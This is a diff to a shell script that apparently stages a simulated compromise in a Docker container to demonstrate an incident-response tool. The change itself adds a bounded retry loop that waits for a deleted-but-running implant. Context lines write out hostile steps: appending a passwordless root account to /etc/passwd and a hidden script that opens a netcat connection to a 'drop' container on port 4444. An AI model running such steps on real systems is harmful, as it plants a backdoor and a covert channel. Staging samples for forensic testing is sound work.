@@ -61,7 +61,16 @@ docker exec cir-demo-shop sh -c '
   echo "svc::0:0::/root:/bin/sh" >>/etc/passwd
   printf "#!/bin/sh\nexec nc cir-demo-drop 4444\n" >/tmp/.x11/run; chmod 755 /tmp/.x11/run
   wget -q -O /dev/null http://127.0.0.1:8080/'
-until docker exec cir-demo-shop sh -c 'for e in /proc/[0-9]*/exe; do readlink $e; done' 2>/dev/null | grep -q '/tmp/.x11/nc (deleted)'; do sleep 0.1; done
+implant_runs() { # its executable is deleted, it is still running
+  local links
+  links=$(docker exec cir-demo-shop sh -c 'for e in /proc/[0-9]*/exe; do readlink $e; done; true')
+  [[ $links == *"/tmp/.x11/nc (deleted)"* ]]
+}
+tries=0
+until implant_runs; do
+  [ $((tries += 1)) -le 100 ] || { echo "the staged implant did not start" >&2; exit 1; }
+  sleep 0.1
+done
 echo "Two containers run: cir-demo-shop (the suspect) and cir-demo-drop (where its implant reports to)."
 
 export CIR_HOME=$work/home CIR_PASSPHRASE=demo-passphrase
